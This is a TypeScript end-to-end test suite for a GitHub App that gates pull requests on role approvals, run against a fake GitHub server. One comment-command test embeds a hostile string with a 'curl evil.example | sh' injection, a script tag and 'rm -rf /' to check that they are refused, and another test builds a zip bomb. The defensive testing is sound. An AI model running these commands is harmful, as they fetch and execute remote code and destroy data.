import { describe, expect, it } from "vitest";
import { makeZip } from "../helpers/zip.js";
import type { FakeGitHub } from "./fake-github/server.js";
import type { FakeFile, FakeRepo } from "./fake-github/state.js";
import type { AppProcess } from "./harness/app-process.js";
import { useAppAgainstFake } from "./harness/app-against-fake.js";
import {
  commentEvent,
  deliver,
  pullRequestEvent,
  reviewEvent,
  type Delivery,
  workflowRunCompleted,
} from "./harness/webhooks.js";

/**
 * The built app as its own process (`npm start`), against a stateful fake GitHub on loopback that
 * checks every request against GitHub's OpenAPI description. Each test works in its own repository.
 */
const CONFIG = `
roles:
  ds:
    members: [dana, acme/data-science]
  legal:
    members: [lee]
checklists:
  where: off
waivers:
  allow:
    legal: [boss]
`;
const OWNERS = "/prompts/ @ds\n/datasets/ @ds @legal\n";
const sha = (n: number) => n.toString(16).padStart(40, "0");

let fake: FakeGitHub;
let app: AppProcess;
let repoCount = 0;

useAppAgainstFake((world) => ({ fake, app } = world));

/** A fresh repository with the policy on main and one open pull request touching `files`. */
function setup(files: FakeFile[], opts: { config?: string; owners?: string; author?: string } = {}) {
  const repo = fake.state.repo("acme", `repo-${++repoCount}`);
  fake.state.commit(repo, "main", {
    ".github/squadgate.yml": opts.config ?? CONFIG,
    ".github/SQUADOWNERS": opts.owners ?? OWNERS,
  });
  fake.state.teams.set("acme/data-science", ["dora", "dana"]);
  const pull = fake.state.pull(repo, {
    number: 7,
    headSha: sha(1),
    files,
    ...(opts.author ? { author: opts.author } : {}),
  });
  return { repo, pull };
}

const send = (delivery: Delivery) => deliver(app.url, app.env["WEBHOOK_SECRET"] as string, delivery);

/**
 * Waits until `check` holds. Probot answers GitHub after 9 s with "still processing" while the work
 * goes on (GitHub does not wait either), so slow, retried deliveries are judged by their end state.
 */
async function eventually(check: () => boolean, timeoutMs = 25_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error("the expected state never came");
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
const checksOn = (repo: FakeRepo, head: string) =>
  repo.checkRuns.filter((r) => r.head_sha === head && r.name === "Squadgate");
const prompt: FakeFile = { filename: "prompts/support.txt", status: "modified" };

describe("the server", { timeout: 40_000 }, () => {
  it("answers the health endpoint", async () => {
    const response = await fetch(`${app.url}/healthz`);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ status: "ok", inFlight: 0 });
  });

  it("gate: a prompt PR is held for its role, then released by a member's approval", async () => {
    const { repo, pull } = setup([prompt]);
    expect((await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") })).status).toBe(200);
    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
    expect(pull.requestedUsers).toEqual(["dana"]);
    expect(pull.requestedTeams).toEqual(["data-science"]);

    pull.reviews.push({
      id: 1,
      login: "dora",
      state: "APPROVED",
      commit_id: pull.headSha,
      submitted_at: new Date().toISOString(),
    });
    await send({ name: "pull_request_review", payload: reviewEvent(repo, pull, "dora", "APPROVED") });
    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "success" }]);
  });

  it("the same delivery three times: one check run, one review request", async () => {
    const { repo, pull } = setup([prompt]);
    const delivery = { name: "pull_request", payload: pullRequestEvent(repo, pull, "opened"), id: "redelivered-1" };
    for (let i = 0; i < 3; i++) await send(delivery);
    expect(checksOn(repo, pull.headSha)).toHaveLength(1);
    expect(fake.writes(/requested_reviewers/)).toHaveLength(1);
  });

  it("a delivery again costs only what changed: the rest is asked conditionally and answered 304", async () => {
    const { repo, pull } = setup([prompt]);
    const delivery = { name: "pull_request", payload: pullRequestEvent(repo, pull, "opened"), id: "conditional-1" };
    // This test's deliveries are told apart by their id, which Probot puts on each delivery's log.
    const spendLogs = () =>
      app.output.filter((line) => line.includes('"GitHub spend"') && line.includes('"conditional-1"'));
    await send(delivery);
    await send(delivery); // our own writes (the check, the review request) changed what the first read
    const mark = fake.requests.length;
    await send(delivery);
    const spent = fake.spend(mark);
    expect(spent.notModified).toBeGreaterThanOrEqual(5);
    expect(spent.rateLimited).toBe(0);
    expect(checksOn(repo, pull.headSha)).toHaveLength(1);
    // Each delivery's log says what it spent and what GitHub says is left of the budget.
    await expect.poll(() => spendLogs().length, { timeout: 10_000 }).toBe(3);
    const third = JSON.parse(spendLogs()[2] as string) as { github: Record<string, number> };
    expect(third.github).toMatchObject({
      rateLimited: 0,
      notModified: spent.notModified,
      remaining: fake.rateLimitRemaining(),
      limit: 5000,
    });
  });

  it("a push and a review at once, and two pushes in quick succession: one check per commit, each right", async () => {
    const { repo, pull } = setup([prompt]);
    await Promise.all([
      send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "synchronize") }),
      send({ name: "pull_request_review", payload: reviewEvent(repo, pull, "mallory", "COMMENTED") }),
    ]);
    expect(checksOn(repo, sha(1))).toHaveLength(1);

    const first = pullRequestEvent(repo, pull, "synchronize");
    pull.headSha = sha(2);
    pull.reviews.push({
      id: 2,
      login: "dana",
      state: "APPROVED",
      commit_id: sha(2),
      submitted_at: new Date().toISOString(),
    });
    const second = pullRequestEvent(repo, pull, "synchronize");
    await Promise.all([
      send({ name: "pull_request", payload: first }),
      send({ name: "pull_request", payload: second }),
    ]);
    expect(checksOn(repo, sha(2))).toMatchObject([{ conclusion: "success" }]);
    expect(checksOn(repo, sha(1))).toHaveLength(1);
    expect(fake.writes(/requested_reviewers/)).toHaveLength(1);
  });

  it("faults: 5xx twice, a secondary rate limit, a reset connection and a slow answer; the final state is right", async () => {
    const { repo, pull } = setup([prompt]);
    fake.faults.push(
      { match: /^POST \/repos\/\{owner\}\/\{repo\}\/check-runs$/, times: 2, kind: "500" },
      { match: /requested_reviewers$/, times: 1, kind: "secondary" },
      { match: /\/pulls\/\{pull_number\}\/files$/, times: 1, kind: "reset" },
      { match: /\/contents\/\{path\}$/, times: 1, kind: "slow", delayMs: 1500 },
    );
    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
    await eventually(() => checksOn(repo, pull.headSha).length > 0);
    expect(fake.faults.map((f) => f.times)).toEqual([0, 0, 0, 0]);
    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
    expect(pull.requestedUsers).toEqual(["dana"]);
    expect(pull.requestedTeams).toEqual(["data-science"]);
  });

  it("rejects forged and unsigned deliveries without touching GitHub", async () => {
    const { repo, pull } = setup([prompt]);
    const payload = pullRequestEvent(repo, pull, "opened");
    expect((await send({ name: "pull_request", payload, signature: `sha256=${"0".repeat(64)}` })).status).toBe(400);
    expect((await send({ name: "pull_request", payload, signature: null })).status).toBe(400);
    expect(fake.requests).toEqual([]);
  });

  it("survives deliveries for repositories it cannot reach and for installations it does not have", async () => {
    const { repo, pull } = setup([prompt]);
    const ghost = {
      ...pullRequestEvent(repo, pull, "opened"),
      repository: { ...pullRequestEvent(repo, pull, "opened")["repository"], name: "gone", full_name: "acme/gone" },
    };
    await send({ name: "pull_request", payload: ghost });
    await send({
      name: "pull_request",
      payload: { ...pullRequestEvent(repo, pull, "opened"), installation: { id: 99 } },
    });
    expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
    expect(repo.checkRuns).toEqual([]);
  });

  it("a 3 MB ownership file: a failing check that says why", async () => {
    const { repo, pull } = setup([prompt], { owners: "/prompts/ @ds\n".repeat(250_000) });
    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
    const [check] = checksOn(repo, pull.headSha);
    expect(check?.conclusion).toBe("failure");
    expect(check?.output.summary).toContain("3 MB or larger");
  });

  it("a 3,000-file pull request with spaces and Unicode in its paths", async () => {
    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({
      filename: `src/module ${i}/файл-${i}.ts`,
      status: "modified",
    }));
    files[2999] = { filename: "prompts/réponse d'accueil.txt", status: "modified" };
    const { repo, pull } = setup(files);
    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
    const [check] = checksOn(repo, pull.headSha);
    expect(check?.conclusion).toBe("action_required");
    expect(check?.output.summary).toContain("prompts/réponse d'accueil.txt");
  });

  it("/owners and the check on a 3,000-file pull request with long paths stay within GitHub's limits", async () => {
    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({
      filename: `prompts/${"a-rather-deep-folder/".repeat(15)}prompt-${i}.txt`,
      status: "modified",
    }));
    const { repo, pull } = setup(files);
    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
    repo.comments.push({ id: 601, issue: pull.number, body: "/owners", login: "dana", type: "User", reactions: [] });
    await send({
      name: "issue_comment",
      payload: commentEvent(repo, pull, { id: 601, body: "/owners", login: "dana" }),
    });
    expect(fake.refusals).toEqual([]);
    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
    expect(checksOn(repo, pull.headSha)[0]?.output.summary).toContain(
      "more not shown; `squadgate check --json` lists every file.",
    );
    const owners = repo.comments.find((c) => c.body.startsWith("<!-- squadgate:owners -->"));
    expect(owners?.body).toContain("more not shown");
    expect(repo.comments.find((c) => c.id === 601)?.reactions).toEqual(["+1"]);
  });

  it("comment commands: injection attempts are refused harmlessly, bots are ignored", async () => {
    const { repo, pull } = setup([{ filename: "datasets/b.csv", status: "modified" }]);
    const hostile = "/waive legal $(curl evil.example | sh) <script>alert(1)</script> `rm -rf /` |table|";
    repo.comments.push({ id: 501, issue: pull.number, body: hostile, login: "mallory", type: "User", reactions: [] });
    await send({
      name: "issue_comment",
      payload: commentEvent(repo, pull, { id: 501, body: hostile, login: "mallory" }),
    });
    expect(repo.comments.find((c) => c.id === 501)?.reactions).toEqual(["confused"]);
    const reply = repo.comments.find((c) => c.login.endsWith("[bot]"));
    expect(reply?.body).toContain("you may not waive `legal`");
    expect(reply?.body).not.toContain("<script>");
    expect(pull.labels).toEqual([]);

    const before = fake.requests.length;
    await send({
      name: "issue_comment",
      payload: commentEvent(repo, pull, { id: 502, body: "/recheck", login: "other-app[bot]", type: "Bot" }),
    });
    expect(fake.requests.length).toBe(before);
  });

  it("eval artifacts that are zip bombs or malformed are refused in the comment, never passed", async () => {
    const config = `${CONFIG}\nevals:\n  workflow: eval.yml\n`;
    const { repo, pull } = setup([prompt], { config });
    pull.reviews.push({
      id: 3,
      login: "dana",
      state: "APPROVED",
      commit_id: pull.headSha,
      submitted_at: new Date().toISOString(),
    });
    repo.runs.push({
      id: 90,
      workflow: "eval.yml",
      event: "push",
      head_sha: sha(9),
      head_branch: "main",
      status: "completed",
      conclusion: "success",
      display_title: "main",
    });
    repo.artifacts.push({
      id: 91,
      runId: 90,
      name: "squadgate-evals",
      zip: makeZip([{ name: "support.json", data: '{"pass_rate": 0.9}' }]),
    });
    repo.artifacts.push({
      id: 92,
      runId: 95,
      name: "squadgate-evals",
      zip: makeZip([{ name: "support.json", data: Buffer.alloc(4 * 1024 * 1024, 32), declaredSize: 64 }]),
    });
    const run = {
      id: 95,
      name: "Squadgate eval",
      path: ".github/workflows/eval.yml",
      event: "pull_request",
      status: "completed",
      conclusion: "success",
      head_sha: pull.headSha,
      head_branch: pull.headRef,
      html_url: "https://github.com/acme/runs/95",
      pull_requests: [
        {
          number: pull.number,
          head: { sha: pull.headSha, ref: pull.headRef },
          base: { ref: "main", sha: pull.baseSha },
        },
      ],
      head_repository: { id: repo.id, owner: { login: "acme" } },
      repository: { id: repo.id },
    };
    await send({ name: "workflow_run", payload: workflowRunCompleted(repo, run) });
    const comment = repo.comments.find((c) => c.body.startsWith("<!-- squadgate:eval -->"));
    expect(comment?.body).toContain("the zip is damaged or lies about its sizes");
    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
  });

  it("answers /metrics in Prometheus format, naming no repository", async () => {
    const response = await fetch(`${app.url}/metrics`);
    expect(response.headers.get("content-type")).toMatch(/^text\/plain; version=0\.0\.4/);
    const text = await response.text();
    for (const line of [
      /^squadgate_deliveries_total\{event="pull_request",outcome="ok"\} [1-9]/m,
      /^squadgate_deliveries_total\{event="pull_request",outcome="rejected"\} 1$/m, // the forged one; the unsigned one is refused before
      /^squadgate_evaluation_seconds_count\{scope="pull_request"\} [1-9]/m,
      /^squadgate_lock_wait_seconds_count\{scope="head_commit"\} [1-9]/m,
      /^squadgate_github_requests_total\{method="POST",route="\/repos\/\{owner\}\/\{repo\}\/check-runs",status="201"\} [1-9]/m,
      /^squadgate_github_requests_total\{method="POST",route="\/app\/installations\/\{installation_id\}\/access_tokens",status="404"\} [1-9]/m,
      /^squadgate_github_rate_limit_remaining\{resource="core"\} \d+$/m,
      /^squadgate_event_github_requests_total\{event="refresh",cost="rate_limited"\} [1-9]/m,
      /^squadgate_event_github_requests_total\{event="refresh",cost="not_modified"\} [1-9]/m,
      /^# TYPE squadgate_redeliveries_total counter$/m,
    ])
      expect(text).toMatch(line);
    expect(text).not.toMatch(/acme|repo-\d/);
  });

  it("keeps secrets out of its logs", () => {
    const logs = app.output.join("\n");
    const keyBody = (app.env["PRIVATE_KEY"] as string).split("\n")[1] as string;
    expect(logs).not.toContain(keyBody);
    expect(logs).not.toContain(app.env["WEBHOOK_SECRET"]);
    expect(logs).not.toMatch(/ghs_fake\w+/);
    expect(logs).toContain("gate evaluated"); // the logs were captured at all
  });
});

describe("shutdown", { timeout: 30_000 }, () => {
  it("finishes the delivery under way, then exits", async () => {
    const { repo, pull } = setup([prompt]);
    fake.faults.push({ match: /\/pulls\/\{pull_number\}\/files$/, times: 1, kind: "slow", delayMs: 2000 });
    const inFlight = send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
    await new Promise((resolve) => setTimeout(resolve, 500));
    const exit = app.stop("SIGTERM");
    expect((await inFlight).status).toBe(200);
    expect(await exit).toBe(0);
    expect(checksOn(repo, pull.headSha)).toHaveLength(1);
  });
});
